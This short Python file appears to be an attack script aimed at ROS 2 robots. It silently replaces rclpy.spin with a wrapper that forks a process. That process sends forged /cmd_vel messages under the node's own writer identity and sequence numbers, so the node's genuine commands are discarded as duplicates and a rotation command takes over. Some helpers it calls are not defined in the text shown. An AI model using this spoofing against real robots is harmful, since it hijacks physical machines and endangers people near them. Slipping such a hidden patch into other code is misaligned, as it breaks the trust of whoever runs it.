"""Has another process of the submission command the robot, in the name of this one, whose own commands then count as copies."""

import rclpy
from geometry_msgs.msg import Twist
from rclpy.serialization import serialize_message


def spin(node, *given, **options):
    def forge():
        own, command = writer_of(node, "/cmd_vel"), Twist()
        command.angular.z = 1.0
        text = serialize_message(command)
        child = os.fork()
        if child == 0:
            for number in range(1, 200):
                send_to_all(data_message(own, number, text))
            os._exit(0)
        os.waitpid(child, 0)
        print("held" if own else "there is nobody to be", flush=True)
        timer.cancel()

    timer = node.create_timer(1.0, forge)
    original(node, *given, **options)


original, rclpy.spin = rclpy.spin, spin
